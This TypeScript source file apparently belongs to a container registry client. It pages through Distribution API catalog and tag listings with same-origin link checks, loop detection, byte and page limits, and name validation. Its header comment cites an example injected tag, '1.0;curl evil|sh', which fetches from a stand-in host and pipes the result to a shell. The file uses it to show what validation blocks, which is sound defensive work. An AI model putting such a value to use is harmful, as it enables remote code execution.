/**
 * Paged listings of the Distribution API (`_catalog`, `tags/list`): a page at a time, following
 * `Link` on the same origin only, stopping before a page link that repeats, each page read within
 * its byte limit. A registry's names are checked against the Distribution grammar (a tag such as
 * `1.0;curl evil|sh` never reaches a command), and a registry that keeps linking to further pages
 * that bring no new names, or to more pages than any registry has, gets its listing cut there.
 */
import { scopesFor } from '../auth/scope';
import { CoreError } from '../errors';
import { nextPageUrl, sameOrigin } from '../transport/link';
import type { HttpResponse } from '../transport/http';
import { readBodyLimited } from '../transport/read-body';
import { requireRegistryUrl } from '../transport/url-policy';
import { isRepositoryName, isTag } from '../name/reference';
import { header } from './endpoint-client';
import { registryErrorFor } from './registry-errors';
import type { RequestRouter } from './router';

export interface ListOptions {
  /** Entries asked for per request (`n`); registries may send fewer. Capped at 1000. */
  pageSize?: number;
  signal?: AbortSignal;
}

/** The largest listing page read into memory (Distribution may send every tag in one page). */
const MAX_PAGE_BYTES = 64 * 1024 * 1024;

/** Pages read of one listing at most: 10 million names at 1000 a page, far past any registry. */
export const MAX_LISTING_PAGES = 10_000;

/** Pages in a row bringing no name not seen before after which a listing stops (an empty page now and then is no loop). */
export const MAX_PAGES_WITHOUT_NEW_NAMES = 10;

export interface Listing {
  /** Under the API root: `/_catalog`, `/team/app/tags/list`. */
  path: string;
  repository: string | undefined;
  scopes: string[];
  field: 'repositories' | 'tags';
  /** What is listed, for messages: "the catalog", "repository team/app". */
  what: string;
  /** A failure the caller words better than the registry's error (a registry without a catalog). */
  explainFailure?: (status: number, text: string) => CoreError | undefined;
}

/** One page of a listing, and whether the registry pointed at a next one (a `Link`): `more: false` means the listing is complete. */
export interface ListingPage {
  names: string[];
  more: boolean;
  /** Entries of this page left out because they are not valid names (see isTag, isRepositoryName). */
  leftOut?: number;
  /** On the last page of a listing stopped before its end (`more` is then false): why, in a sentence. */
  cut?: string;
}

/** A listing's entries, a page at a time. */
export async function* listPages(router: RequestRouter, listing: Listing, options: ListOptions): AsyncGenerator<string[]> {
  for await (const page of listingPages(router, listing, options)) yield page.names;
}

/** A listing a page at a time, each page saying whether more follow, so a caller knows it has everything without asking again. */
export async function* listingPages(router: RequestRouter, listing: Listing, options: ListOptions): AsyncGenerator<ListingPage> {
  const { path, repository, scopes, field, what } = listing;
  const pageSize = Math.max(1, Math.min(1000, options.pageSize ?? 100));
  const endpoint = await router.first('list', repository);
  let url: URL | undefined = endpoint.url(path, { n: String(pageSize) });
  const seen = new Set<string>();
  const valid = field === 'tags' ? isTag : isRepositoryName;
  const namesSeen = new Set<string>();
  let pages = 0;
  let pagesWithoutNewNames = 0;
  const loop = () =>
    new CoreError('PAGINATION_LOOP', `${router.host} sent the same page link twice while listing ${what}; the listing stops here.`);
  while (url) {
    if (seen.has(pageKey(url))) throw loop();
    seen.add(pageKey(url));
    const res = await endpoint.send({ method: 'GET', path: url, headers: { accept: 'application/json' }, scopes, signal: options.signal });
    // A link that redirects to a page already handed out is the same loop: stop before handing it out again.
    if (res.url.href !== url.href) {
      if (seen.has(pageKey(res.url))) {
        await res.body.dump().catch(() => undefined);
        throw loop();
      }
      seen.add(pageKey(res.url));
    }
    const text = await readText(res);
    if (res.status === 401) throw await endpoint.refusal(res, scopes);
    if (res.status !== 200) {
      throw listing.explainFailure?.(res.status, text) ?? registryErrorFor(res.status, text, what, router.host, router.secrets);
    }
    let entries: unknown;
    try {
      entries = (JSON.parse(text) as Record<string, unknown>)[field];
    } catch {
      throw new CoreError(
        'BAD_RESPONSE',
        `${router.host} sent a listing of ${what} that is not JSON: check that the URL points at a registry.`,
      );
    }
    if (entries !== null && entries !== undefined && !Array.isArray(entries)) {
      throw new CoreError('BAD_RESPONSE', `${router.host} sent a listing of ${what} without a "${field}" list.`);
    }
    const requestUrl: URL = res.url;
    const next = nextPageUrl(header(res, 'link'), requestUrl.href);
    const checked = next === undefined ? undefined : requireRegistryUrl(next, requestUrl, 'next-page', router.host, what);
    if (checked && !sameOrigin(checked, requestUrl)) {
      throw new CoreError(
        'CROSS_ORIGIN_LINK',
        `${router.host} pointed the next page of ${what} at another origin (${checked.origin}); it is not followed.`,
      );
    }
    url = checked;
    const strings = (entries ?? []).filter((e): e is string => typeof e === 'string');
    const names = strings.filter(valid);
    const leftOut = strings.length - names.length;
    const fresh = names.filter((name) => !namesSeen.has(name));
    for (const name of fresh) namesSeen.add(name);
    pages++;
    pagesWithoutNewNames = fresh.length > 0 ? 0 : pagesWithoutNewNames + 1;
    const cut = !url
      ? undefined
      : pagesWithoutNewNames >= MAX_PAGES_WITHOUT_NEW_NAMES
        ? `${router.host} kept pointing at further pages of ${what} that brought no new names; the listing stops after ${MAX_PAGES_WITHOUT_NEW_NAMES} such pages in a row and may be incomplete.`
        : pages >= MAX_LISTING_PAGES
          ? `${router.host} pointed at more than ${MAX_LISTING_PAGES} pages of ${what}; the listing stops there and may be incomplete.`
          : undefined;
    yield { names, more: url !== undefined && !cut, ...(leftOut > 0 ? { leftOut } : {}), ...(cut ? { cut } : {}) };
    if (cut) return;
  }
}

/** One page however its link is written: query parameters in any order (`?n=1&last=a` is `?last=a&n=1`). */
function pageKey(url: URL): string {
  const query = [...url.searchParams].sort(([a, x], [b, y]) => (a === b ? (x < y ? -1 : x > y ? 1 : 0) : a < b ? -1 : 1));
  return `${url.origin}${url.pathname}?${new URLSearchParams(query).toString()}`;
}

/** Reads a response body as text, refusing more than `limit` bytes. */
export async function readText(res: HttpResponse, limit = MAX_PAGE_BYTES): Promise<string> {
  const tooLarge = (): CoreError =>
    new CoreError(
      'RESPONSE_TOO_LARGE',
      `${res.url.host} sent more than ${limit / 1048576} MiB for ${res.url.pathname}; the response was not read.`,
    );
  return (await readBodyLimited(res, limit, tooLarge)).toString('utf8');
}

/** Tags of a repository, a page at a time. */
export function listTags(router: RequestRouter, repository: string, options: ListOptions = {}): AsyncGenerator<string[]> {
  return listPages(router, tagListing(repository), options);
}

/** Tags of a repository, a page at a time, each saying whether more follow. */
export function tagPages(router: RequestRouter, repository: string, options: ListOptions = {}): AsyncGenerator<ListingPage> {
  return listingPages(router, tagListing(repository), options);
}

function tagListing(repository: string): Listing {
  return {
    path: `/${repository}/tags/list`,
    repository,
    scopes: scopesFor({ method: 'GET', repository }),
    field: 'tags',
    what: `repository ${repository}`,
  };
}
